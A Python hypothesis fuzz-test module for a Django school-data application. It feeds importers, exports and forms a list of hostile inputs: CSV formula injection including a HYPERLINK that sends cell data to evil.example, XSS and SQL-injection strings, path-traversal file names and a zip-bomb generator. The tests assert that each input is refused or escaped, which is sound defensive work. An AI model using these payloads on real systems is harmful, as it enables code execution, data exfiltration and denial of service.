"""Hostile input: every importer and the forms that render text back, fed random, malformed, huge and
adversarial content by hypothesis. The outcome is always a clear refusal or a safe value: never a
server error, never part of a file written, never a formula in an export, never markup run in a page.

`make test` tries a few hundred cases; `make fuzz` (HYPOTHESIS_PROFILE=fuzz) the long campaign, whose
count is in docs/reliability.md. Every test counts the cases it ran into tests/app/.fuzz-counts when
SHNOR_FUZZ_COUNTS is set.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.test import Client
from django.urls import reverse
from hypothesis import given, note
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from shnor.core.contract import TABLES
from shnor.datasets import services
from shnor.datasets.models import ImportRun, OversightSignal, SocialRecord, SurveyValue
from shnor.datasets.reports import report_bytes
from shnor.engine.store import Manifest, Store
from shnor.registry.models import Municipality, School
from shnor.staff.models import Course, Diagnostic, StaffMember, Teacher
from tests.conftest import World, count_case

pytestmark = pytest.mark.django_db

_count = count_case


# ---- what an adversary writes into a cell ------------------------------------------------------------

NASTY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"нажми")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE registry_school; --",
    "../../etc/passwd",
    "\x00",
    "\ufeff",
    "١٢٣",  # Arabic-Indic digits
    "1e309",
    "NaN",
    "-0",
    "9" * 400,
    "Ш" * 5000,
    "",
    " ",
    "\u202eevil",  # right-to-left override
]
cell = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.sampled_from(["A001", "B001", "A002", "2026", "ОГЭ", "ЕГЭ", "ВПР", "1", "0,5", "5"]),
)
ENCODINGS = ["utf-8", "utf-8-sig", "cp1251", "utf-16", "koi8-r", "latin-1"]
KINDS = sorted(TABLES)


def _headers(kind: str, draw: Any) -> list[str]:
    columns = TABLES[kind].columns
    names = [draw(st.sampled_from([c.ru, c.name])) for c in columns]
    if draw(st.booleans()):
        names = draw(st.permutations(names))
    if draw(st.integers(0, 4)) == 0:  # a column lost, one repeated, a stranger added
        names = [*names[1:], names[0], names[-1], draw(st.text(max_size=10))]
    return names


@st.composite
def files(draw: Any, kind: str) -> tuple[str, bytes]:
    """A file as someone might send it: garbage, a CSV of any encoding and separator, or a workbook."""
    shape = draw(st.sampled_from(["bytes", "csv", "csv", "xlsx"]))
    if shape == "bytes":
        return draw(st.sampled_from(["data.csv", "data.xlsx", "data.txt"])), draw(st.binary(max_size=3000))
    headers = _headers(kind, draw)
    rows = draw(st.lists(st.lists(cell, min_size=len(headers) - 1, max_size=len(headers) + 1), max_size=12))
    if shape == "xlsx":
        book = Workbook()
        sheet = book.active
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", h) for h in headers])  # what a workbook can hold
        for row in rows:
            sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) for v in row])
        out = io.BytesIO()
        book.save(out)
        return "data.xlsx", out.getvalue()
    text = io.StringIO()
    csv.writer(text, delimiter=draw(st.sampled_from([",", ";", "\t"]))).writerows([headers, *rows])
    encoding = draw(st.sampled_from(ENCODINGS))
    return "data.csv", text.getvalue().encode(encoding, errors="replace")


def _state() -> tuple[Any, ...]:
    """Everything an import may write: the database's tables and the store's manifests."""
    store = Store(django_settings.SHNOR_STORE_DIR)
    manifests: dict[str, Manifest | None] = {}
    for table in ("results", "results_tasks", "results_schools"):
        try:
            manifests[table] = store.manifest(table)
        except (FileNotFoundError, KeyError, LookupError):
            manifests[table] = None
    return (
        *(_rows(model) for model in (School, Municipality, SocialRecord, SurveyValue, OversightSignal)),
        *(_rows(model) for model in (StaffMember, Teacher, Diagnostic, Course)),
        json.dumps(manifests, sort_keys=True, default=str),
    )


def _rows(model: Any) -> list[tuple[str, ...]]:
    """Every row's every stored value (not only how many rows): a loader that updates rows in place
    (the social one does) must leave them as they were too."""
    fields = [f.attname for f in model._meta.concrete_fields if not f.primary_key]
    return sorted(tuple(map(repr, row)) for row in model.objects.values_list(*fields))


CYRILLIC = re.compile(r"[А-Яа-яЁё]{3,}")
PYTHON = re.compile(r"Traceback|Error\(|Exception\b|\bNone\b|\bnan\b|object at 0x")


def _russian(message: str) -> bool:
    """A message for a person: Russian words, none of Python's own words."""
    own = re.sub(r"«[^»]*»", "", message)  # what the file itself holds is quoted, and may say anything
    return bool(CYRILLIC.search(own)) and not PYTHON.search(own)


@pytest.mark.parametrize("kind", KINDS)
def test_no_file_breaks_an_importer_or_lands_in_part(world: World, kind: str, tmp_path: Path) -> None:
    operator = world.users["operator"]
    uploads = Path(django_settings.MEDIA_ROOT).resolve()

    @given(
        sent=files(kind),
        name=st.one_of(
            st.just(""), st.sampled_from(["../../x.csv", "..\\..\\x.xlsx", "con.csv", "a\x00b.csv", "/etc/passwd"])
        ),
    )
    def one(sent: tuple[str, bytes], name: str) -> None:
        _count(f"import {kind}")
        file_name, content = sent
        file_name = name + file_name if name else file_name
        path = tmp_path / "sent"
        path.write_bytes(content)
        before = _state()
        note(f"{file_name}: {content[:300]!r}")
        try:
            run = services.create_run(operator, kind, path, file_name)
        except services.ImportRefused as refusal:
            assert _russian(str(refusal)), str(refusal)
            assert _state() == before
            return
        stored = (uploads / run.stored_path).resolve()
        assert stored.is_relative_to(uploads) and "/" not in run.file_name and "\\" not in run.file_name
        if run.status == ImportRun.Status.DRAFT:
            run = services.execute(run.pk)
        assert run.status in (ImportRun.Status.APPLIED, ImportRun.Status.FAILED), run.status
        if run.status == ImportRun.Status.FAILED:
            assert _state() == before, "a refused file changed the data"
            errors = [i for i in run.issues if i["severity"] == "error"]
            assert errors and all(_russian(i["message"]) for i in errors), [i["message"] for i in errors]
            # The report of the file echoes what was sent: as text, never as a formula.
            book = load_workbook(io.BytesIO(report_bytes(run)))
            for row in book["замечания"].iter_rows(min_row=2):
                for c in row:
                    assert c.data_type != "f", (c.coordinate, c.value)

    one()


def _bomb(path: Path, unpacked_mb: int) -> Path:
    """An XLSX whose sheet unpacks to `unpacked_mb` megabytes of nothing."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b"<row/>" * (1 << 17)
            for _ in range(unpacked_mb * (1 << 20) // len(block)):
                sheet.write(block)
    return path


def test_a_zip_bomb_is_refused_before_it_is_unpacked(world: World, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "bomb.xlsx", 600)
    assert bomb.stat().st_size < 3 << 20  # 600 MB of XML in under 3 MB
    run = services.create_run(world.users["operator"], "schools", bomb, "bomb.xlsx")
    assert run.status == ImportRun.Status.FAILED
    message = " ".join(i["message"] for i in run.issues)
    assert "zip-бомба" in message and "МБ" in message
    _count("zip bomb")


def test_exports_keep_formulas_as_text(world: World) -> None:
    """A school named like a formula comes out of every export as text (CSV and XLSX)."""
    from shnor.identification import services as identification
    from shnor.identification.models import Run, SchoolResult

    world.a1.name = "=cmd|' /C calc'!A0"
    world.a1.save()
    run = Run.objects.create(
        year=2026, status=Run.Status.DONE, preset="volgograd-2021", preset_version="1", preset_text=""
    )
    SchoolResult.objects.create(run=run, school=world.a1, selected=True, ior=-0.5, ior_se=0.05)
    rows = identification.output_rows(world.users["operator"], run)
    text = identification.export_csv(rows).decode("utf-8")
    assert "'=cmd" in text and "\n=cmd" not in text and ",=cmd" not in text
    book = load_workbook(io.BytesIO(identification.export_xlsx(rows, run)))
    values = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "cmd" in c.value]
    assert values and all(c.data_type == "s" and c.value.startswith("'=") for c in values)


MARKUP = st.one_of(
    st.sampled_from(
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            '"><svg onload=alert(1)>',
            "{{ 7*7 }}",
            "{% debug %}",
        ]
    ),
    st.text(max_size=60),
)


def test_text_sent_through_forms_comes_back_escaped(world: World) -> None:
    """Names and texts typed into forms are shown as typed, never run: a school, a body, a person."""
    client = Client()
    client.force_login(world.users["operator"])

    @given(text=MARKUP)
    def one(text: str) -> None:
        _count("forms: markup rendered back")
        note(repr(text))
        url = reverse("registry:school-edit", args=[world.a2.pk])
        page = client.get(url).content.decode()
        assert "<script>alert" not in page
        data = {
            "school_id": "A002",
            "name": text,
            "municipality": world.muni_a.pk,
            "locality": "city",
            "enrollment": "800",
            "is_active": "on",
        }
        response = client.post(url, data)
        if "\x00" in text:  # refused at the door: no text field can hold a NUL
            assert response.status_code == 400 and "NUL" in response.content.decode()
            return
        assert response.status_code in (200, 302), response.status_code
        shown = client.get(reverse("registry:school", args=[world.a2.pk])).content.decode()
        for tag in ("<script>alert", "<img src=x", "<svg onload"):
            assert tag not in shown
        assert "{{ 7*7 }}" not in text or "49" not in shown.split("<main", 1)[-1][:200]
        listed = client.get(reverse("registry:schools"), {"q": text}).status_code
        assert listed == 200

    one()


@given(name=st.text(max_size=300), size=st.integers(min_value=0, max_value=5000))
def test_any_upload_name_is_stored_inside_the_uploads_folder(world: World, name: str, size: int) -> None:
    _count("upload names")
    stored = services.safe_name(name)
    assert stored and "/" not in stored and "\\" not in stored and not stored.startswith(".") and len(stored) <= 150
    assert "\x00" not in stored
